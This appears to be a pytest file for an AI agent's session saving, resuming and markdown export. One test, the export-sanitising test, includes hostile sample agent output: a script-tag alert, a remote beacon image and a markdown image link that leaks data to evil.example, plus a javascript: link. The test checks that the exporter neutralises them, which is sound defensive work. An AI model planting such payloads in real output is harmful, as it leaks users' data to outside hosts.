"""Sessions saved as they go (append-only JSON lines), replayed without a kernel, resumed, exported."""

from __future__ import annotations

import json
import stat
from pathlib import Path
from typing import Any

import pytest
from agent_testkit import HarnessFactory, assert_valid_request, result_text, tool_results

from jupyter_agent.builtin_tools.files import file_tools
from jupyter_agent.sessions import (
    SessionLog,
    SessionNotFound,
    find_session,
    list_sessions,
    load_session,
    session_markdown,
)
from jupyter_agent.testing import Text, ToolUse, Turn


def _saving(tmp_path: Path) -> dict[str, Any]:
    return {"project": tmp_path / "analysis.ipynb", "sessions_root": tmp_path / "store"}


def _only_file(tmp_path: Path) -> Path:
    [path] = list((tmp_path / "store").rglob("*.jsonl"))
    return path


def test_a_run_is_saved_as_it_goes_and_the_file_replays_to_the_same_conversation(
    harness: HarnessFactory, tmp_path: Path
) -> None:
    (tmp_path / "data.csv").write_text("a,b\n1,2\n")
    h = harness(
        [
            Turn(blocks=[Text("Reading."), ToolUse(name="Read", input={"file_path": "data.csv"})]),
            Turn(blocks=[Text("Two columns.")]),
        ],
        tools=file_tools(),
        session_options=_saving(tmp_path),
    )
    finished = h.run("what is in data.csv?")
    path = _only_file(tmp_path)
    saved = load_session(path)
    assert saved.messages == h.session.conversation.messages
    assert [r.text for r in saved.requests] == ["what is in data.csv?"]
    assert [(r.run_id, r.reason, r.turns) for r in saved.runs] == [(1, "end_turn", 2)]
    assert saved.runs[0].cost_usd == pytest.approx(finished.cost_usd)
    assert saved.project == str(tmp_path / "analysis.ipynb")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    lines = path.read_text().splitlines()
    assert all(json.loads(line)["type"] for line in lines)
    assert json.loads(lines[0])["type"] == "session"


def test_a_kernel_that_never_runs_leaves_no_session_file(harness: HarnessFactory, tmp_path: Path) -> None:
    h = harness([], session_options=_saving(tmp_path))
    assert h.session.saved_sessions() == []
    assert not (tmp_path / "store").exists()


def test_a_torn_last_line_is_skipped_and_the_next_append_starts_on_its_own_line(tmp_path: Path) -> None:
    path = tmp_path / "s.jsonl"
    log = SessionLog(path)
    log.append([{"type": "session", "id": "s1"}, {"type": "request", "run_id": 1, "text": "first"}])
    with open(path, "ab") as f:
        f.write(b'{"type":"request","run_id":2,"te')  # the kernel died in the middle of this write
    assert [r.text for r in load_session(path).requests] == ["first"]
    assert load_session(path).skipped_lines == 1
    SessionLog(path).append([{"type": "request", "run_id": 3, "text": "after the crash"}])
    saved = load_session(path)
    assert [r.text for r in saved.requests] == ["first", "after the crash"]
    assert saved.skipped_lines == 1


def test_shortened_results_are_a_new_record_and_replay_to_the_shortened_conversation(
    harness: HarnessFactory, tmp_path: Path
) -> None:
    big = "x" * 4000
    (tmp_path / "big.txt").write_text(big)
    script = [
        Turn(blocks=[ToolUse(name="Read", input={"file_path": "big.txt"})]),
        Turn(blocks=[ToolUse(name="Read", input={"file_path": "big.txt"})]),
        Turn(blocks=[Text("done")]),
    ]
    h = harness(
        script,
        tools=file_tools(),
        session_options=_saving(tmp_path),
        context_window=6000,
        shorten_at=0.5,
        shorten_to=0.2,
        context_compact_fraction=None,
        model="claude-opus-5",  # shortening rewrites earlier messages: only where no thinking prefix is checked
    )
    assert h.run("read it twice").reason == "end_turn"
    first_result = h.session.conversation.messages[2]["content"][0]
    assert "shortened to save context" in result_text(first_result)
    assert load_session(_only_file(tmp_path)).messages == h.session.conversation.messages


def test_resume_in_a_new_session_sends_the_earlier_messages_and_an_edit_needs_a_fresh_read(
    harness: HarnessFactory, tmp_path: Path
) -> None:
    (tmp_path / "load.py").write_text("x = 1\n")
    first = harness(
        [
            Turn(blocks=[ToolUse(name="Read", input={"file_path": "load.py"})]),
            Turn(blocks=[Text("It sets x to 1.")]),
        ],
        tools=file_tools(),
        mode="acceptEdits",
        session_options=_saving(tmp_path),
    )
    first.run("what does load.py do?")
    earlier = first.session.conversation.messages

    edit = {"name": "Edit", "input": {"file_path": "load.py", "old_string": "x = 1", "new_string": "x = 2"}}
    # A second server numbers its calls from toolu_01_0_0 again: ids of their own keep them unique, as the API's are.
    second = harness(
        [
            Turn(blocks=[ToolUse(id="toolu_resumed_1", **edit)]),
            Turn(blocks=[ToolUse(id="toolu_resumed_2", name="Read", input={"file_path": "load.py"})]),
            Turn(blocks=[ToolUse(id="toolu_resumed_3", **edit)]),
            Turn(blocks=[Text("Now x is 2.")]),
        ],
        tools=file_tools(),
        mode="acceptEdits",
        session_options=_saving(tmp_path),
    )
    saved = second.session.load_saved()
    assert saved.first_request == "what does load.py do?"
    second.session.resume(saved)
    second.run("set x to 2")

    request = second.server.requests[0]
    assert_valid_request(request)
    assert request["messages"][: len(earlier)] == earlier
    assert request["messages"][len(earlier)]["content"][-1]["text"] == "set x to 2"
    [stale] = tool_results(second.server.requests[1])
    assert stale["is_error"] is True and result_text(stale).startswith("NOT_READ")
    [edited] = tool_results(second.server.requests[3])
    assert "is_error" not in edited
    assert (tmp_path / "load.py").read_text() == "x = 2\n"
    assert second.session.recorder is not None
    resumed = load_session(second.session.recorder.path)
    assert resumed.resumed_from == saved.id
    assert resumed.messages[: len(earlier)] == earlier


def test_a_saved_call_without_its_result_is_answered_when_resumed(
    harness: HarnessFactory, tmp_path: Path
) -> None:
    """The kernel died while a tool ran: the file ends with the tool_use; the resumed request stays valid."""
    h = harness([Turn(blocks=[Text("Carrying on.")])], session_options=_saving(tmp_path))
    path = tmp_path / "store" / "dead.jsonl"
    messages = [
        {"role": "user", "content": [{"type": "text", "text": "run it"}]},
        {
            "role": "assistant",
            "content": [{"type": "tool_use", "id": "toolu_9", "name": "Read", "input": {}}],
        },
    ]
    SessionLog(path).append(
        [
            {"type": "session", "id": "dead", "created": "2026-01-01T00:00:00"},
            {"type": "request", "run_id": 1, "text": "run it"},
            {"type": "messages", "start": 0, "messages": messages},
        ]
    )
    h.session.resume(load_session(path))
    h.run("go on")
    request = h.server.requests[0]
    assert_valid_request(request)
    assert request["messages"][1]["content"][0]["id"] == "toolu_9"
    assert request["messages"][2]["content"][0]["tool_use_id"] == "toolu_9"


def test_sessions_are_listed_newest_first_and_found_by_id_prefix(
    harness: HarnessFactory, tmp_path: Path
) -> None:
    project = tmp_path / "analysis.ipynb"
    root = tmp_path / "store"
    first = harness([Turn(blocks=[Text("one")])], session_options=_saving(tmp_path))
    first.run("first question")
    second = harness([Turn(blocks=[Text("two")])], session_options=_saving(tmp_path))
    second.run("second question")
    listed = list_sessions(project, root=root)
    assert [s.first_request for s in listed] == ["second question", "first question"]
    assert find_session(project, root=root).first_request == "second question"
    assert find_session(project, listed[1].id[:-2], root=root).first_request == "first question"
    with pytest.raises(SessionNotFound, match="SESSION_NOT_FOUND: no saved session 'nope'"):
        find_session(project, "nope", root=root)
    assert list_sessions(tmp_path / "other.ipynb", root=root) == []


def test_export_writes_the_conversation_as_markdown(harness: HarnessFactory, tmp_path: Path) -> None:
    (tmp_path / "a.md").write_text("```\nfenced\n```\n")
    h = harness(
        [
            Turn(blocks=[Text("Looking."), ToolUse(name="Read", input={"file_path": "a.md"})]),
            Turn(blocks=[Text("It holds a **fence**.")]),
        ],
        tools=file_tools(),
        session_options=_saving(tmp_path),
    )
    h.run("what is in a.md?")
    markdown = session_markdown(load_session(_only_file(tmp_path)))
    assert h.session.recorder is not None
    assert markdown.startswith(f"# Agent session {h.session.recorder.id}")
    assert "### User\n\nwhat is in a.md?" in markdown
    assert "### Agent\n\nLooking." in markdown
    assert '**Tool call** `Read`\n\n```json\n{\n  "file_path": "a.md"\n}\n```' in markdown
    assert "````\n" in markdown  # the result's own ``` cannot close the fence around it
    assert markdown.rstrip().endswith("It holds a **fence**.")


def test_a_web_search_is_saved_and_exported_with_its_query_and_pages(
    harness: HarnessFactory, tmp_path: Path
) -> None:
    from jupyter_agent.builtin_tools.web.search import WebSearchTool
    from jupyter_agent.testing import SearchHit, ServerToolUse, WebSearchResult

    hit = SearchHit(title="Release notes", url="https://example.org/notes")
    turn = Turn(
        blocks=[ServerToolUse(input={"query": "release date"}), WebSearchResult(results=[hit]), Text("Soon.")]
    )
    h = harness([turn], tools=[WebSearchTool()], session_options=_saving(tmp_path))
    h.run("when?")
    saved = load_session(_only_file(tmp_path))
    assert [b["type"] for b in saved.messages[1]["content"]] == [
        "server_tool_use",
        "web_search_tool_result",
        "text",
    ]
    markdown = session_markdown(saved)
    assert "**Web search** ```\nrelease date\n```" in markdown
    assert "**Search results**\n\n- Release notes — <https://example.org/notes>" in markdown


def test_the_export_neutralises_html_remote_images_and_script_links(
    harness: HarnessFactory, tmp_path: Path
) -> None:
    hostile = (
        'Done. <script>alert(1)</script> <img src="https://evil.example/beacon.png"> '
        "![chart](https://evil.example/leak.png?d=secret) [docs](javascript:alert(1))"
    )
    h = harness([Turn(blocks=[Text(hostile)])], session_options=_saving(tmp_path))
    h.run("summarise")
    markdown = session_markdown(load_session(_only_file(tmp_path)))
    assert "<script" not in markdown and "<img" not in markdown
    assert "&lt;script>alert(1)&lt;/script>" in markdown
    assert "![" not in markdown and "[image: chart](https://evil.example/leak.png?d=secret)" in markdown
    assert "javascript:" not in markdown and "[docs](#)" in markdown


def test_a_resume_continues_in_a_file_that_holds_only_what_is_new_and_reads_back_whole(
    harness: HarnessFactory, tmp_path: Path
) -> None:
    long_answer = "March is dropped by the date parser. " * 400  # ~15 KB the resumed file must not copy
    first = harness([Turn(blocks=[Text(long_answer)])], session_options=_saving(tmp_path))
    first.run("why is March missing?")
    assert first.session.recorder is not None
    original = first.session.recorder.path
    second = harness(
        [Turn(blocks=[Text("April is fine.")]), Turn(blocks=[Text("Still fine.")])],
        session_options=_saving(tmp_path),
    )
    second.session.resume(second.session.load_saved())
    second.run("and April?")
    second.run("and May?")
    assert second.session.recorder is not None
    resumed = second.session.recorder.path
    assert resumed != original
    assert long_answer not in resumed.read_text()  # the earlier messages are referenced, not copied
    assert resumed.stat().st_size < original.stat().st_size
    saved = load_session(resumed)
    assert saved.messages == second.session.conversation.messages  # read back whole, through the first file
    assert saved.prefix == load_session(original).prefix  # with the prefix it was saved with
    assert [r.text for r in saved.requests] == ["why is March missing?", "and April?", "and May?"]
    assert second.server.requests[0]["system"] == first.server.requests[0]["system"]


def test_a_resumed_file_whose_original_is_gone_says_so_and_resumes_what_it_holds(
    harness: HarnessFactory, tmp_path: Path
) -> None:
    first = harness([Turn(blocks=[Text("one")])], session_options=_saving(tmp_path))
    first.run("first")
    assert first.session.recorder is not None
    second = harness([Turn(blocks=[Text("two")])], session_options=_saving(tmp_path))
    second.session.resume(second.session.load_saved())
    second.run("second")
    assert second.session.recorder is not None
    first.session.recorder.path.unlink()
    saved = load_session(second.session.recorder.path)
    assert "whose file is missing" in saved.damage


def _records(path: Path, kind: str) -> list[dict[str, Any]]:
    return [r for r in map(json.loads, path.read_text().splitlines()) if r["type"] == kind]


def test_what_was_told_is_written_whole_once_and_then_only_as_what_changed(
    harness: HarnessFactory, tmp_path: Path
) -> None:
    h = harness(
        [Turn(blocks=[Text("one")]), Turn(blocks=[Text("two")]), Turn(blocks=[Text("three")])],
        tools=file_tools(),
        session_options=_saving(tmp_path),
    )
    h.run("first")
    h.session.policy.mode = "acceptEdits"  # %agent mode acceptEdits: one fact changes
    h.run("second")
    h.session.policy.mode = "plan"
    h.run("third")
    path = _only_file(tmp_path)
    [whole] = _records(path, "told")
    assert set(whole["tools"]) >= {"Read", "Edit", "Write"}
    changes = _records(path, "told_changes")
    assert len(changes) == 3  # the first run's facts, then a mode each
    for change in changes:  # facts, not the tool definitions again
        assert list(change["entries"]) == ["facts"] and "set" not in change
        assert len(json.dumps(change)) < len(json.dumps(whole)) / 5
    assert [list(c["entries"]["facts"]["set"]) for c in changes[1:]] == [["Permission mode"]] * 2
    assert changes[-1]["entries"]["facts"]["set"]["Permission mode"].startswith("plan")
    assert load_session(path).told == h.session.conversation.told.to_json()


def test_a_resumed_file_starts_from_what_its_original_told_and_adds_only_the_changes(
    harness: HarnessFactory, tmp_path: Path
) -> None:
    first = harness([Turn(blocks=[Text("one")])], tools=file_tools(), session_options=_saving(tmp_path))
    first.run("first")
    assert first.session.recorder is not None
    told_before = json.dumps(_records(first.session.recorder.path, "told")[0]["tools"])
    second = harness(
        [Turn(blocks=[Text("two")]), Turn(blocks=[Text("three")])],
        tools=file_tools(),
        session_options=_saving(tmp_path),
    )
    second.session.resume(second.session.load_saved())
    second.run("same facts")
    second.session.policy.mode = "acceptEdits"
    second.run("a new mode")
    assert second.session.recorder is not None
    resumed = second.session.recorder.path
    assert _records(resumed, "told") == []  # never the whole of it again
    assert told_before[:200] not in resumed.read_text()  # nor the tool definitions
    [change] = _records(resumed, "told_changes")
    assert change["entries"]["facts"]["set"]["Permission mode"].startswith("acceptEdits")
    assert load_session(resumed).told == second.session.conversation.told.to_json()


def test_any_bad_line_is_skipped_and_named_even_one_nested_too_deep_to_parse(tmp_path: Path) -> None:
    path = tmp_path / "s.jsonl"
    SessionLog(path).append(
        [{"type": "session", "id": "s1"}, {"type": "request", "run_id": 1, "text": "first"}]
    )
    with open(path, "ab") as f:
        f.write(b'{"type": "request", "x": ' + b"[" * 200_000 + b"]" * 200_000 + b"}\n")  # line 3
        f.write(b'"a string, not a record"\n')  # line 4
    SessionLog(path).append([{"type": "request", "run_id": 2, "text": "after it"}])

    saved = load_session(path)

    assert [r.text for r in saved.requests] == ["first", "after it"]
    assert saved.damage == (
        "2 lines of the file could not be read and skipped: line 3 (nested too deeply to read), "
        "line 4 (not a session record)"
    )


def test_a_value_that_becomes_a_secret_after_a_run_read_it_is_in_no_later_request_and_not_in_the_file(
    harness: HarnessFactory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    value = "qq81-later-secret-value-5d02"
    (tmp_path / "config.txt").write_text(f"token = {value}\n")
    h = harness(
        [
            Turn(blocks=[ToolUse(name="Read", input={"file_path": "config.txt"})]),
            Turn(blocks=[Text("It holds a token.")]),
            Turn(blocks=[Text("Still there.")]),
        ],
        tools=file_tools(),
        session_options=_saving(tmp_path),
    )
    h.run("what is in config.txt?")
    path = _only_file(tmp_path)
    assert value in path.read_text()  # not a secret while it was read and saved
    sent_before = len(h.server.requests)
    monkeypatch.setenv("NEW_TOKEN", value)
    h.run("and now?")
    later = json.dumps(h.server.requests[sent_before:])
    saved = path.read_text()
    for text in (later, saved):
        assert value[:8] not in text and value[-8:] not in text
    assert "[redacted: NEW_TOKEN]" in saved
    assert load_session(path).skipped_lines == 0  # the rewrite kept every line whole
